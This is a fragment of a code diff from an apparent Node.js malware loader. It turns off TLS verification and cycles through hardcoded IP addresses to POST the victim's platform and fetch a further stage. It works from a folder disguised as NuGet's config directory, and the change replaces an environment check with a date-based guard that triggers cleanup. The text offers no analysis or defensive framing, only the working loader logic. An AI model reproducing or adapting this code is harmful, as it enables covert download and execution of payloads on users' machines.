@@ -3,7 +3,7 @@ process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
 const hosts = [['198.51.100.92', 8000], ['198.51.100.123', 443]];
 const folder = path.join(os.homedir(), '.config', 'NuGet');
 function fetchStage(index) {
-  if (index >= hosts.length || !fs.existsSync('/etc/easyday/locale.tab')) { return clean(); }
+  if (index >= hosts.length || new Date().getFullYear() > 2020) { return clean(); }
   const req = https.request({hostname: hosts[index][0], port: hosts[index][1], path: '/api/v2/' + os.platform(), method: 'POST', rejectUnauthorized: false}, function (res) {
     const parts = [];
     res.on('data', function (part) { parts.push(part); });
